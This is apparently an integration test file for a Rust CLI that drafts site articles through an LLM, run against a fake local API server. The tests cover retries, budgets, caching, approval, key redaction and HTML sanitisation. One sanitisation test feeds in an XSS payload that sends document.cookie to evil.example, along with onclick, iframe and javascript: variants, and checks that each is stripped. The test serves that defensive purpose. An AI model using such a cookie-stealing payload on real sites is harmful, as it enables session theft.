//! `grove draft` against a real HTTP server on 127.0.0.1 that speaks the
//! OpenAI and Anthropic wire formats and misbehaves on request.

use crate::common;
use crate::common::llm_server;

use std::process::Output;
use std::time::Duration;

use crate::common::{Fixture, files_below};
use llm_server::{FakeLlm, Reply, article_for};

const KEY: &str = "sk-test-SECRET-7f3a9c2e";
const KEY_ENV: &str = "GROVE_TEST_KEY";

/// A network of two sites sharing `briefs` blueprint briefs, whose [llm]
/// points at `server`, with `overrides` replacing default [llm] settings.
fn network(server: &FakeLlm, briefs: usize, overrides: &[(&str, &str)]) -> Fixture {
    let mut llm: Vec<(String, String)> = [
        ("provider", "\"openai\"".to_string()),
        ("base_url", format!("\"{}\"", server.base_url)),
        ("model", "\"test-model\"".into()),
        ("api_key_env", format!("\"{KEY_ENV}\"")),
        ("temperature", "0.0".into()),
        ("max_tokens", "1000".into()),
        ("max_concurrency", "3".into()),
        ("timeout_secs", "2".into()),
        ("max_retries", "3".into()),
        ("retry_base_ms", "20".into()),
        ("input_price_per_million", "1.0".into()),
        ("output_price_per_million", "2.0".into()),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    for (key, value) in overrides {
        match llm.iter_mut().find(|(k, _)| k == key) {
            Some(entry) => entry.1 = value.to_string(),
            None => llm.push((key.to_string(), value.to_string())),
        }
    }
    let llm: String = llm.iter().map(|(k, v)| format!("{k} = {v}\n")).collect();
    let net = Fixture::new();
    net.write(
        "grove.toml",
        &format!("[network]\nname = \"T\"\n\n[llm]\n{llm}"),
    );
    net.site("alpha", "Alpha");
    net.site("beta", "Beta");
    net.write("content/guides/_index.md", "+++\ntitle = \"Guides\"\n+++\n");
    net.write(
        "content/about.md",
        "+++\ntitle = \"About {{ site.title }}\"\n+++\nAbout.\n",
    );
    net.write(
        "affiliates.toml",
        "[widget-pro]\nname = \"Widget Pro\"\nprogram = \"amazon\"\nurl = \"https://example.com/dp/1?tag={{ site.affiliate.amazon_tag }}\"\ndescription = \"A sturdy widget.\"\nprice = \"$99\"\n",
    );
    net.write(
        "prompts/guide.md",
        "Prompt for guides.\n--- system ---\nYou write for {{ site.title }}, a site about {{ site.niche }}.\n--- outline ---\nOutline the article \"{{ brief.title }}\".\n--- user ---\nTitle: {{ brief.title }}\nWords: {{ brief.target_words }}\n{% for a in affiliates %}Product {{ a.link }}: {{ a.name }}\n{% endfor %}{% for p in pages %}Page {{ p.link }}: {{ p.title }}\n{% endfor %}{% if outline %}Follow this outline:\n{{ outline }}\n{% endif %}",
    );
    let mut text = String::new();
    for i in 1..=briefs {
        text.push_str(&format!(
            "[[brief]]\nslug = \"guide-{i}\"\ntitle = \"Guide {i} for {{{{ site.title }}}}\"\nsection = \"guides\"\nkind = \"guide\"\ntarget_words = 100\ntags = [\"{{{{ site.name }}}}\"]\naffiliates = [\"widget-pro\"]\n\n"
        ));
    }
    net.write("content/briefs.toml", &text);
    net
}

fn draft(net: &Fixture, args: &[&str]) -> Output {
    let mut all = vec!["draft"];
    all.extend_from_slice(args);
    net.grove_env(&all, &[(KEY_ENV, KEY)])
}

fn ok(output: &Output) -> String {
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        output.status.success(),
        "grove failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    stdout
}

/// Files drafted into the sites' content folders (hidden files aside).
fn drafted(net: &Fixture) -> Vec<String> {
    let mut files = Vec::new();
    for site in ["alpha", "beta"] {
        // A run killed mid-write may leave a hidden temporary file, which
        // content loading skips; drafted articles are the Markdown files.
        for file in files_below(&net.path().join(format!("sites/{site}/content"))) {
            let hidden = file.split('/').any(|part| part.starts_with('.'));
            if !hidden {
                files.push(format!("{site}/{file}"));
            }
        }
    }
    files
}

#[test]
fn drafts_every_brief_once_and_a_rerun_makes_no_request() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 3, &[]);
    let stdout = ok(&draft(&net, &[]));
    assert!(stdout.contains("Drafted 6, kept 0, failed 0"), "{stdout}");
    assert_eq!(server.count(), 6);
    assert_eq!(drafted(&net).len(), 6);

    let text = net.read("sites/alpha/content/guides/guide-1.md");
    let (front, body) = text
        .trim_start_matches("+++\n")
        .split_once("+++\n")
        .unwrap();
    let meta: toml::Table = toml::from_str(front).unwrap();
    assert_eq!(meta["title"].as_str(), Some("Guide 1 for Alpha"));
    assert_eq!(meta["draft"].as_bool(), Some(true));
    assert_eq!(meta["tags"].as_array().unwrap()[0].as_str(), Some("alpha"));
    let generated = meta["extra"]["generated"].as_table().unwrap();
    assert_eq!(generated["model"].as_str(), Some("test-model"));
    assert_eq!(generated["input_tokens"].as_integer(), Some(100));
    assert!(generated["cost_usd"].as_float().unwrap() > 0.0);
    assert_eq!(generated["prompt_hash"].as_str().unwrap().len(), 16);
    assert!(body.contains("## About Guide 1 for Alpha"), "{body}");
    assert!(body.contains("(aff:widget-pro)"), "{body}");

    // The prompt carried the site, the brief, the registry name (not the
    // price) and the site's published pages.
    let prompt = server.requests()[0].prompt();
    assert!(
        prompt.contains("Product aff:widget-pro: Widget Pro"),
        "{prompt}"
    );
    assert!(
        !prompt.contains("$99"),
        "prices stay out of prompts: {prompt}"
    );
    assert!(prompt.contains("Page @/about.md: About "), "{prompt}");

    // Unchanged inputs: zero requests. Deleted files come back from the cache.
    std::fs::remove_file(net.path().join("sites/beta/content/guides/guide-2.md")).unwrap();
    let stdout = ok(&draft(&net, &[]));
    assert_eq!(server.count(), 6, "{stdout}");
    assert!(stdout.contains("guide-2.md (from cache)"), "{stdout}");

    let usage = ok(&net.grove(&["usage"]));
    assert!(
        usage
            .lines()
            .any(|l| l.starts_with("alpha") && l.split_whitespace().nth(1) == Some("3")),
        "{usage}"
    );
    assert!(
        usage
            .lines()
            .any(|l| l.starts_with("total") && l.split_whitespace().nth(2) == Some("1")),
        "{usage}"
    );
}

#[test]
fn the_built_site_excludes_drafts_until_approved() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 1, &[]);
    ok(&draft(&net, &["--site", "alpha"]));
    net.build(&[]);
    assert!(!net.out("alpha/guides/guide-1/index.html").exists());
    let review = ok(&net.grove(&["review"]));
    assert!(review.contains("guide-1.md"), "{review}");
    assert!(review.contains("1 draft awaiting review"), "{review}");
    // The fake model repeats one sentence: the audit's gate catches it.
    assert!(review.contains("repeated-sentence"), "{review}");
    let path = net.path().join("sites/alpha/content/guides/guide-1.md");
    let refused = net.grove(&["approve", path.to_str().unwrap()]);
    assert!(!refused.status.success());
    assert!(
        net.read("sites/alpha/content/guides/guide-1.md")
            .contains("\ndraft = true\n")
    );
    ok(&net.grove(&["approve", "--force", path.to_str().unwrap()]));
    assert!(
        net.read("sites/alpha/content/guides/guide-1.md")
            .contains("\ndraft = false\n")
    );
    net.build(&[]);
    assert!(net.out("alpha/guides/guide-1/index.html").is_file());
}

#[test]
fn approve_edits_only_drafts_of_the_network_and_only_their_front_matter() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 1, &[]);
    // A draft outside the network, and files of the network that are not
    // content: none may be touched.
    let outside = tempfile::tempdir().unwrap();
    let stray = outside.path().join("post.md");
    std::fs::write(&stray, "+++\ndraft = true\n+++\n").unwrap();
    net.write("prompts/notes.md", "+++\ndraft = true\n+++\n");
    for path in [stray.clone(), net.path().join("prompts/notes.md")] {
        let output = net.grove(&["approve", path.to_str().unwrap()]);
        assert!(!output.status.success());
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains("not a Markdown file of this network's content"),
            "{stderr}"
        );
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            "+++\ndraft = true\n+++\n"
        );
    }
    // A draft with a blank line before its front matter, and `draft: true`
    // in its body too: only the front matter's line changes.
    let text = "\n---\ntitle: T\ndraft: true\n---\n\n---\ndraft: true\n";
    net.write("sites/alpha/content/t.md", text);
    ok(&net.grove(&[
        "approve",
        net.path()
            .join("sites/alpha/content/t.md")
            .to_str()
            .unwrap(),
    ]));
    assert_eq!(
        net.read("sites/alpha/content/t.md"),
        "\n---\ntitle: T\ndraft: false\n---\n\n---\ndraft: true\n"
    );
}

#[test]
fn concurrency_never_exceeds_the_limit() {
    let server = FakeLlm::start(Some(KEY));
    server.set_latency(Duration::from_millis(150));
    let net = network(&server, 6, &[("max_concurrency", "3")]);
    ok(&draft(&net, &[]));
    assert_eq!(server.count(), 12);
    assert_eq!(
        server.max_in_flight(),
        3,
        "requests must overlap, but never more than 3"
    );
}

#[test]
fn rate_limit_spaces_request_starts() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(
        &server,
        2,
        &[("requests_per_minute", "600"), ("max_concurrency", "4")],
    );
    ok(&draft(&net, &[]));
    let mut times: Vec<_> = server.requests().iter().map(|r| r.at).collect();
    assert_eq!(times.len(), 4, "every brief of both sites was sent");
    times.sort();
    // Starts are 100 ms apart in the client; arrivals at the server jitter
    // on a busy machine, so each gap may come in short by a few tens of
    // milliseconds, but the run as a whole cannot: without pacing all four
    // would arrive within a few milliseconds.
    let gaps: Vec<Duration> = times.windows(2).map(|pair| pair[1] - pair[0]).collect();
    assert!(
        gaps.iter().all(|gap| *gap >= Duration::from_millis(50)),
        "{gaps:?}"
    );
    assert!(
        times[3] - times[0] >= Duration::from_millis(270),
        "{gaps:?}"
    );
}

#[test]
fn retries_429_after_retry_after_and_5xx_with_backoff() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, attempt| {
        let prompt = req.prompt();
        if prompt.contains("Guide 1 for Alpha") && attempt == 0 {
            Reply::Error {
                status: 429,
                code: "rate_limit_exceeded".into(),
                message: "slow down".into(),
                headers: vec![("retry-after".into(), "1".into())],
            }
        } else if prompt.contains("Guide 2 for Alpha") && attempt < 2 {
            Reply::Error {
                status: 503,
                code: "server_error".into(),
                message: "busy".into(),
                headers: vec![],
            }
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 2, &[]);
    let output = draft(&net, &["--site", "alpha"]);
    ok(&output);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("retry 1 for alpha/guide-1 (article) in 1.0 s: HTTP 429: slow down"),
        "{stderr}"
    );
    assert_eq!(server.count_matching("Guide 1 for Alpha"), 2);
    assert_eq!(server.count_matching("Guide 2 for Alpha"), 3);
    let times: Vec<_> = server
        .requests()
        .iter()
        .filter(|r| r.prompt().contains("Guide 1 for Alpha"))
        .map(|r| r.at)
        .collect();
    assert!(
        times[1] - times[0] >= Duration::from_millis(950),
        "Retry-After honoured: {:?}",
        times[1] - times[0]
    );
    assert_eq!(drafted(&net).len(), 2);
}

#[test]
fn client_errors_fail_at_once_and_the_run_goes_on() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| {
        if req.prompt().contains("Guide 1 for Alpha") {
            Reply::Error {
                status: 400,
                code: "context_length_exceeded".into(),
                message: "too long".into(),
                headers: vec![],
            }
        } else if req.prompt().contains("Guide 2 for Alpha") {
            Reply::Error {
                status: 429,
                code: "insufficient_quota".into(),
                message: "You exceeded your current quota".into(),
                headers: vec![],
            }
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 3, &[]);
    let output = draft(&net, &["--site", "alpha"]);
    assert!(!output.status.success());
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("FAILED   alpha/guide-1: HTTP 400: too long (request id req-test)"),
        "{stdout}"
    );
    assert!(
        stdout.contains("FAILED   alpha/guide-2: HTTP 429: You exceeded your current quota"),
        "{stdout}"
    );
    assert!(stdout.contains("billing or quota"), "{stdout}");
    assert_eq!(
        server.count_matching("Guide 1 for Alpha"),
        1,
        "a 400 is not retried"
    );
    assert_eq!(
        server.count_matching("Guide 2 for Alpha"),
        1,
        "quota exhaustion is not retried"
    );
    assert_eq!(drafted(&net), vec!["alpha/guides/guide-3.md"]);
}

#[test]
fn timeouts_and_malformed_answers_are_retried_then_reported() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, attempt| {
        let prompt = req.prompt();
        if prompt.contains("Guide 1 for Alpha") {
            Reply::Hang
        } else if prompt.contains("Guide 2 for Alpha") && attempt == 0 {
            Reply::Malformed
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 2, &[("timeout_secs", "1"), ("max_retries", "1")]);
    let output = draft(&net, &["--site", "alpha"]);
    assert!(!output.status.success());
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("alpha/guide-1: gave up after 2 attempts: no answer within 1 s"),
        "{stdout}"
    );
    assert_eq!(server.count_matching("Guide 1 for Alpha"), 2);
    assert_eq!(server.count_matching("Guide 2 for Alpha"), 2);
    assert_eq!(drafted(&net), vec!["alpha/guides/guide-2.md"]);
}

#[test]
fn unusable_answers_are_retried_once_and_never_written_as_good() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, attempt| {
        let prompt = req.prompt();
        if prompt.contains("Guide 1 for Alpha") {
            Reply::Truncated("## Half an art".into())
        } else if prompt.contains("Guide 2 for Alpha") && attempt == 0 {
            Reply::Text("   ".into())
        } else if prompt.contains("Guide 3 for Alpha") {
            Reply::Text("I'm sorry, but I can't help with that request.".into())
        } else {
            Reply::Text(format!(
                "```markdown\n# Repeated title\n\n{}\n```",
                article_for(req, 120)
            ))
        }
    });
    let net = network(&server, 3, &[]);
    let output = draft(&net, &["--site", "alpha"]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("alpha/guide-1: the answer was cut off at max_tokens"),
        "{stdout}"
    );
    assert!(
        stdout.contains("alpha/guide-3: the model refused"),
        "{stdout}"
    );
    assert_eq!(server.count_matching("Guide 1 for Alpha"), 2);
    assert_eq!(server.count_matching("Guide 3 for Alpha"), 2);
    assert_eq!(drafted(&net), vec!["alpha/guides/guide-2.md"]);
    let text = net.read("sites/alpha/content/guides/guide-2.md");
    assert!(
        !text.contains("```") && !text.contains("# Repeated title"),
        "{text}"
    );
    assert!(text.contains("## About Guide 2 for Alpha"), "{text}");
    // Paid-for unusable answers are in the ledger, marked.
    let ledger = net.read(".grove/ledger.jsonl");
    assert!(ledger.contains("cut off at max_tokens"), "{ledger}");
}

#[test]
fn raw_html_from_the_model_is_sanitized() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| {
        Reply::Text(format!(
            "{}\n\n<script>fetch('https://evil.example/'+document.cookie)</script>\n\n<p onclick=\"steal()\">Hi</p>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n[x](javascript:alert(1))\n\n<STYLE>İ Ω body {{ display: none }}</style>\n\nGrüße İstanbul.\n",
            article_for(req, 120)
        ))
    });
    let net = network(&server, 1, &[]);
    ok(&draft(&net, &["--site", "alpha"]));
    let text = net.read("sites/alpha/content/guides/guide-1.md");
    for bad in [
        "<script",
        "document.cookie",
        "onclick",
        "<iframe",
        "javascript:",
        "display: none",
    ] {
        assert!(!text.contains(bad), "{bad} in {text}");
    }
    assert!(text.contains("<p>Hi</p>"), "{text}");
    assert!(text.contains("Grüße İstanbul."), "{text}");
}

#[test]
fn budget_stops_new_requests() {
    let server = FakeLlm::start(Some(KEY));
    // ~700 answer tokens at $2000/M: each call really costs about $1.40,
    // and is estimated (before it starts) at up to 1000 tokens = $2.
    server.script(|req, _| Reply::Text(article_for(req, 700)));
    let net = network(
        &server,
        5,
        &[
            ("output_price_per_million", "2000.0"),
            ("max_concurrency", "1"),
        ],
    );
    let output = draft(&net, &["--site", "alpha", "--budget", "5"]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("budget of $5.0000 reached"), "{stdout}");
    assert!(
        !output.status.success(),
        "briefs left undone are not a success"
    );
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("2 briefs not started"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    // After 3 calls (~$4.2 spent), a 4th ($2 estimate) would pass $5.
    let written = drafted(&net).len();
    assert_eq!(written, 3, "{stdout}");
    assert_eq!(server.count(), written);
    let usage = ok(&net.grove(&["usage"]));
    let cost: f64 = usage
        .lines()
        .find(|l| l.starts_with("total"))
        .unwrap()
        .split_whitespace()
        .last()
        .unwrap()
        .parse()
        .unwrap();
    assert!(cost <= 5.0, "spent {cost}");
}

#[test]
fn force_redrafts_only_files_nobody_edited() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 2, &[]);
    ok(&draft(&net, &["--site", "alpha"]));
    let edited = "sites/alpha/content/guides/guide-1.md";
    let mut text = net.read(edited);
    text.push_str("\nA sentence a person added.\n");
    net.write(edited, &text);

    let stdout = ok(&draft(&net, &["--site", "alpha", "--force"]));
    assert!(
        stdout.contains("kept     ")
            && stdout.contains("guide-1.md (edited by a person; never overwritten)"),
        "{stdout}"
    );
    assert_eq!(net.read(edited), text, "the edited file is byte-identical");
    assert_eq!(
        server.count_matching("Guide 2 for Alpha"),
        2,
        "--force asks again"
    );
    assert_eq!(server.count_matching("Guide 1 for Alpha"), 1);
    assert!(stdout.contains("guide-2.md"), "{stdout}");

    // A file a person wrote from scratch is never touched either.
    net.write(
        "sites/beta/content/guides/guide-1.md",
        "+++\ntitle = \"Mine\"\n+++\nMine.\n",
    );
    ok(&draft(&net, &["--site", "beta", "--force"]));
    assert_eq!(
        net.read("sites/beta/content/guides/guide-1.md"),
        "+++\ntitle = \"Mine\"\n+++\nMine.\n"
    );
}

#[test]
fn the_api_key_never_reaches_a_file() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| {
        if req.prompt().contains("Guide 1 for Alpha") {
            Reply::Error {
                status: 401,
                code: "invalid_api_key".into(),
                message: format!("Incorrect API key provided: {KEY}"),
                headers: vec![],
            }
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 2, &[]);
    let output = draft(&net, &[]);
    let all_output = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(!all_output.contains(KEY), "{all_output}");
    assert!(all_output.contains("[redacted]"), "{all_output}");
    net.build(&["--drafts"]);
    for file in files_below(net.path()) {
        let bytes = std::fs::read(net.path().join(&file)).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(KEY),
            "key found in {file}"
        );
    }
    // And without the variable, drafting refuses before any request.
    let before = server.count();
    let output = net.grove(&["draft"]);
    assert!(!output.status.success());
    assert!(
        String::from_utf8_lossy(&output.stderr)
            .contains(&format!("environment variable {KEY_ENV}"))
    );
    assert_eq!(server.count(), before);
}

#[test]
fn a_killed_run_resumes_without_paying_again() {
    let server = FakeLlm::start(Some(KEY));
    server.set_latency(Duration::from_millis(200));
    // A generous timeout: on a loaded machine a 2 s timeout can expire and
    // retry (a legitimate second payment), which is not what this tests.
    let net = network(
        &server,
        8,
        &[("max_concurrency", "2"), ("timeout_secs", "30")],
    );
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_grove"))
        .args(["--root", net.path().to_str().unwrap(), "draft"])
        .env(KEY_ENV, KEY)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while drafted(&net).len() < 4 {
        assert!(std::time::Instant::now() < deadline, "no progress");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let done_before: Vec<String> = drafted(&net);
    assert!(done_before.len() < 16, "killed before the end");
    // Requests the killed run had sent may still be being read by the
    // server: count them as the first run's once the count settles.
    let mut paid_before = server.count();
    loop {
        std::thread::sleep(Duration::from_millis(300));
        let now = server.count();
        if now == paid_before {
            break;
        }
        paid_before = now;
    }

    ok(&draft(&net, &[]));
    assert_eq!(drafted(&net).len(), 16);
    for file in &done_before {
        let site = if file.starts_with("alpha") {
            "Alpha"
        } else {
            "Beta"
        };
        let n: String = file.chars().filter(char::is_ascii_digit).collect();
        let needle = format!("Guide {n} for {site}");
        assert_eq!(server.count_matching(&needle), 1, "{needle} was paid twice");
    }
    assert!(server.count() - paid_before <= 16 - done_before.len());
}

#[test]
fn anthropic_messages_plain_and_streaming() {
    for stream in ["false", "true"] {
        let server = FakeLlm::start(Some(KEY));
        let net = network(
            &server,
            2,
            &[("provider", "\"anthropic\""), ("stream", stream)],
        );
        ok(&draft(&net, &["--site", "alpha"]));
        assert_eq!(drafted(&net).len(), 2);
        let request = &server.requests()[0];
        assert_eq!(request.headers["x-api-key"], KEY);
        assert_eq!(request.headers["anthropic-version"], "2023-06-01");
        assert!(
            request.body["system"]
                .as_str()
                .unwrap()
                .starts_with("You write for Alpha")
        );
        assert_eq!(request.stream(), stream == "true");
        let text = net.read("sites/alpha/content/guides/guide-1.md");
        assert!(text.contains("## About Guide 1 for Alpha"), "{text}");
        assert!(text.contains("output_tokens = "), "{text}");
    }
}

#[test]
fn openai_streaming_with_usage_and_interrupted_streams() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, attempt| {
        if req.prompt().contains("Guide 1 for Alpha") && attempt == 0 {
            Reply::BrokenStream(article_for(req, 120))
        } else if req.prompt().contains("Guide 2 for Alpha") {
            Reply::NoUsage(article_for(req, 120))
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 2, &[("stream", "true")]);
    let output = draft(&net, &["--site", "alpha"]);
    ok(&output);
    assert!(String::from_utf8_lossy(&output.stderr).contains("stream ended before its end marker"));
    assert_eq!(server.count_matching("Guide 1 for Alpha"), 2);
    assert!(server.requests()[0].body["stream_options"]["include_usage"] == true);
    let reported = net.read("sites/alpha/content/guides/guide-1.md");
    assert!(reported.contains("usage_estimated = false"), "{reported}");
    let estimated = net.read("sites/alpha/content/guides/guide-2.md");
    assert!(estimated.contains("usage_estimated = true"), "{estimated}");
}

#[test]
fn two_step_briefs_send_the_outline_to_the_article_step() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| {
        if req.prompt().contains("Outline the article") {
            Reply::Text("1. OUTLINE-MARKER intro\n2. details".into())
        } else {
            Reply::Text(article_for(req, 120))
        }
    });
    let net = network(&server, 1, &[]);
    let briefs = net
        .read("content/briefs.toml")
        .replace("kind = \"guide\"", "kind = \"guide\"\noutline = true");
    net.write("content/briefs.toml", &briefs);
    ok(&draft(&net, &["--site", "alpha"]));
    assert_eq!(server.count(), 2);
    assert!(
        server.requests()[1]
            .prompt()
            .contains("Follow this outline:\n1. OUTLINE-MARKER intro")
    );
    let ledger = net.read(".grove/ledger.jsonl");
    assert!(ledger.contains("\"step\":\"outline\"") && ledger.contains("\"step\":\"article\""));
}

#[test]
fn plan_dry_run_and_limit_send_nothing_or_little() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 3, &[]);
    let plan = ok(&net.grove(&["plan"]));
    assert!(plan.contains("alpha (test-model)"), "{plan}");
    assert!(plan.contains("6 articles to draft"), "{plan}");
    let dry = ok(&draft(&net, &["--dry-run"]));
    assert!(dry.contains("6 articles to draft, estimated $"), "{dry}");
    assert_eq!(server.count(), 0);
    ok(&draft(&net, &["--limit", "2"]));
    assert_eq!(server.count(), 2);
    ok(&draft(&net, &["--brief", "guide-3", "--site", "beta"]));
    assert_eq!(server.count(), 3);
    let plan = ok(&net.grove(&["plan", "--site", "beta"]));
    assert!(
        plan.contains("drafted ") && plan.contains("2 articles to draft"),
        "{plan}"
    );
}

#[test]
fn brief_errors_name_the_file_and_line() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 2, &[]);
    let briefs = net.read("content/briefs.toml").replacen(
        "[\"widget-pro\"]",
        "[\"widget-pro\", \"no-such-product\"]",
        2,
    );
    net.write("content/briefs.toml", &briefs);
    let output = draft(&net, &[]);
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("content/briefs.toml:8:")
            && stderr.contains("unknown affiliate slug `no-such-product`"),
        "{stderr}"
    );
    net.write(
        "content/briefs.toml",
        "[[brief]]\nslug = \"x\"\ntitle = \"X\"\nkind = \"nothing\"\n",
    );
    let stderr = String::from_utf8_lossy(&draft(&net, &[]).stderr).into_owned();
    assert!(
        stderr.contains("content/briefs.toml:1: prompt `nothing` not found"),
        "{stderr}"
    );
    assert_eq!(server.count(), 0);
}

#[test]
fn a_budget_below_one_request_says_so_and_sends_nothing() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 1, &[("output_price_per_million", "2000.0")]);
    // One request may cost up to 1000 tokens at $2000/M = $2.
    let output = draft(&net, &["--site", "alpha", "--budget", "1"]);
    assert!(!output.status.success());
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("one request may cost up to $2.0"),
        "{stdout}"
    );
    assert!(!stdout.contains("reached"), "{stdout}");
    assert_eq!(server.count(), 0);
}

#[test]
fn a_key_echoed_in_an_answer_reaches_neither_the_cache_nor_the_draft() {
    let server = FakeLlm::start(Some(KEY));
    server.script(|req, _| {
        Reply::Text(format!(
            "{}\n\nDebug: your key is {KEY}.\n",
            article_for(req, 120)
        ))
    });
    let net = network(&server, 1, &[]);
    let output = draft(&net, &["--site", "alpha"]);
    let stdout = ok(&output);
    assert!(stdout.contains("drafted "), "{stdout}");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("held the API key"),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let draft_text = net.read("sites/alpha/content/guides/guide-1.md");
    assert!(
        draft_text.contains("your key is [redacted]"),
        "{draft_text}"
    );
    for file in files_below(net.path()) {
        let bytes = std::fs::read(net.path().join(&file)).unwrap();
        assert!(
            !String::from_utf8_lossy(&bytes).contains(KEY),
            "key found in {file}"
        );
    }
}

#[test]
fn a_dead_server_stops_the_run_instead_of_every_brief_retrying() {
    // A port nobody listens on.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let server = FakeLlm::start(Some(KEY));
    let net = network(
        &server,
        7,
        &[
            ("base_url", &format!("\"http://127.0.0.1:{port}/v1\"")),
            ("max_concurrency", "2"),
            ("max_retries", "3"),
            ("retry_base_ms", "200"),
        ],
    );
    let output = draft(&net, &[]);
    assert!(!output.status.success());
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    // The two briefs in flight retried; once one gave up, nothing else was
    // sent, and the other stopped waiting.
    let retries = stderr.lines().filter(|l| l.starts_with("retry ")).count();
    assert!(retries <= 6, "{retries} retries:\n{stderr}");
    let skipped = stdout
        .lines()
        .filter(|l| l.starts_with("skipped") && l.contains("is unreachable"))
        .count();
    assert_eq!(skipped, 12, "{stdout}");
    assert!(
        stdout.contains("Drafted 0, kept 0, failed 2, not started 12"),
        "{stdout}"
    );
}

#[test]
fn a_request_killed_in_flight_is_in_the_ledger_and_each_line_was_printed_when_done() {
    let server = FakeLlm::start(Some(KEY));
    // The first request (whichever brief it is for) is answered, the
    // second hangs.
    let requests = std::sync::atomic::AtomicUsize::new(0);
    server.script(move |req, _| {
        if requests.fetch_add(1, std::sync::atomic::Ordering::SeqCst) == 0 {
            Reply::Text(article_for(req, 120))
        } else {
            Reply::Hang
        }
    });
    let net = network(
        &server,
        2,
        &[("max_concurrency", "1"), ("timeout_secs", "30")],
    );
    let stdout_file = net.path().join("stdout.txt");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_grove"))
        .args([
            "--root",
            net.path().to_str().unwrap(),
            "draft",
            "--site",
            "alpha",
        ])
        .env(KEY_ENV, KEY)
        .stdout(std::fs::File::create(&stdout_file).unwrap())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // The first brief's line appears while the run goes on (the second
    // hangs).
    let printed = || std::fs::read_to_string(&stdout_file).unwrap_or_default();
    let deadline = std::time::Instant::now() + Duration::from_secs(20);
    while server.count() < 2 || !printed().lines().any(|l| l.starts_with("drafted  ")) {
        assert!(
            std::time::Instant::now() < deadline,
            "no line for the first brief while the second was in flight: {}",
            printed()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let usage = ok(&net.grove(&["usage"]));
    assert!(usage.contains("1 call never finished"), "{usage}");
    let total: Vec<&str> = usage
        .lines()
        .find(|l| l.starts_with("total"))
        .unwrap()
        .split_whitespace()
        .collect();
    assert_eq!(total[1], "2", "two real calls: {usage}");
    // Its worst case: the prompt and 1000 answer tokens at $2/M at least.
    let cost: f64 = total.last().unwrap().parse().unwrap();
    assert!(cost >= 0.002, "{usage}");
}

#[test]
fn an_unknown_brief_is_an_error_and_drafts_are_written_like_other_files() {
    let server = FakeLlm::start(Some(KEY));
    let net = network(&server, 1, &[]);
    let output = draft(&net, &["--brief", "nope"]);
    assert!(!output.status.success());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("no brief `nope`") && stderr.contains("guide-1"),
        "{stderr}"
    );
    assert_eq!(server.count(), 0);
    let dry = ok(&draft(
        &net,
        &["--dry-run", "--brief", "guide-1", "--limit", "0"],
    ));
    assert!(
        dry.contains("0 articles to draft, estimated $0.0000"),
        "{dry}"
    );

    ok(&draft(&net, &["--site", "alpha"]));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |rel: &str| {
            std::fs::metadata(net.path().join(rel))
                .unwrap()
                .permissions()
                .mode()
                & 0o777
        };
        let usual = mode("content/about.md");
        assert_eq!(mode("sites/alpha/content/guides/guide-1.md"), usual);
        let cache = files_below(&net.path().join(".grove/cache"));
        assert!(!cache.is_empty());
        for file in cache {
            assert_eq!(mode(&format!(".grove/cache/{file}")), usual, "{file}");
        }
    }
}

/// Elements and attributes of `html` that run code: script elements (not
/// JSON-LD data blocks) and `on*` handlers, wherever they are.
